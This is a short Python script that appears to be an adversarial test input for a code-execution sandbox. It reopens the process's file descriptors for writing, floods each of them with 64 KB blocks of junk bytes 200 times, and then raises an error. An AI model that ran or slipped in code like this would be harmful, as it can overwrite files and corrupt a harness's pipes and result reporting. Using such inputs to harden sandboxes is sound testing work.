import os

others = list(range(3, 1024))
for name in os.listdir("/proc/self/fd"):
    try:
        others.append(os.open(f"/proc/self/fd/{name}", os.O_WRONLY | os.O_NONBLOCK))
    except OSError:
        pass
for _ in range(200):
    for number in others:
        if number > 2:
            try:
                os.set_blocking(number, False)
                os.write(number, b"z" * 65536)
            except OSError:
                pass
raise ValueError("the true end")
